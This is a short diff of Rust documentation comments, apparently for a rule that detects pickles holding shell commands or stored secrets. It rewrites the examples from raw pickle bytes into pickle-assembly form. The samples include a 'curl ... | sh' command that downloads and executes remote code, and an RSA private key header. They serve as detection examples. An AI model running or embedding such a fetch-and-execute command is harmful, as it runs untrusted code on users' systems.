@@ -8,12 +8,15 @@
 //! secret that was stored by mistake.
 //!
 //! ## Example
-//! ```pickle
-//! b'\x80\x04\x8c\x1ccurl http://example.com | sh.'
+//! ```pickleasm
+//! PROTO 4
+//! SHORT_BINUNICODE 'curl http://example.com | sh'
+//! STOP
 //! ```
 //!
-//! ```pickle
-//! b'V-----BEGIN RSA PRIVATE KEY-----\n.'
+//! ```pickleasm
+//! UNICODE '-----BEGIN RSA PRIVATE KEY-----'
+//! STOP
 //! ```
 //!
 //! ## Use instead
